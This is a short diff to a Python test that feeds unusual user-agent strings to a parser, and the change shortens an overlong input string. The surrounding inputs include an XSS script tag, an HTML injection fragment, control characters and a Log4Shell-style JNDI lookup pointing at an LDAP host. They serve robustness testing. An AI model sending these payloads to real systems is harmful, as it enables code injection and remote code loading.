@@ -37,7 +37,7 @@ def test_who_tells_no_agent_is_left_out(agent):
         "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.04240.111 Safari/537.36",
         "Pod\x00casts/1.0",
         "Podcasts\x1b[31m/1.0",
-        "A" * 1001,
+        "A" * 601,
         "<script>alert(1)</script>",
         "</a><img src=x>",
         "${jndi:ldap://203.0.113.9/a}",
